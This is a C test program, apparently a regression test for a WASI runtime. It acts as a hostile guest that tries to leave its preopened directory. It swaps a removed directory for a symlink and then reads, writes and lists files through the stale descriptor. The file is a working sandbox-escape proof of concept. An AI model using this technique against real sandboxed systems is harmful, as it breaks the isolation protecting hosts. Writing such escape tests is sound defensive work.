// A hostile guest (issue 13): leaves its preopen through a stale directory descriptor, with plain wasi-libc calls.
//   stale_dir_escape <preopen> <symlink target>     e.g. stale_dir_escape /box ..
// It opens <preopen>/esc as a directory, replaces esc with a symlink to <target>, then through the old descriptor
// reads sentinel.txt, creates planted.txt and lists the directory. It prints what each step got and exits 1 if
// anything from outside the preopen was reached, 0 if every step was refused, 2 if the set-up itself failed.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: stale_dir_escape <preopen> <symlink target>\n");
    return 2;
  }
  char esc[256];
  snprintf(esc, sizeof esc, "%s/esc", argv[1]);
  if (mkdir(esc, 0755) != 0) return perror("mkdir"), 2;
  int d = open(esc, O_RDONLY | O_DIRECTORY);
  if (d < 0) return perror("open esc"), 2;
  if (rmdir(esc) != 0) return perror("rmdir"), 2;
  if (symlink(argv[2], esc) != 0) return perror("symlink"), 2;

  int leaked = 0;
  int f = openat(d, "sentinel.txt", O_RDONLY);
  if (f >= 0) {
    char buf[64] = {0};
    ssize_t n = read(f, buf, sizeof buf - 1);
    printf("read sentinel.txt: LEAKED %zd bytes: %s\n", n, buf);
    leaked = 1;
  } else {
    printf("read sentinel.txt: refused: %s\n", strerror(errno));
  }
  int c = openat(d, "planted.txt", O_WRONLY | O_CREAT, 0644);
  if (c >= 0) {
    printf("create planted.txt: created\n");
    leaked = 1;
  } else {
    printf("create planted.txt: refused: %s\n", strerror(errno));
  }
  DIR *dir = fdopendir(d);
  int listed = 0;
  if (dir) {
    struct dirent *e;
    while ((e = readdir(dir)) != NULL) {
      if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) {
        printf("list: LEAKED %s\n", e->d_name);
        listed = 1;
      }
    }
  }
  if (!listed) printf("list: nothing\n");
  return leaked || listed;
}
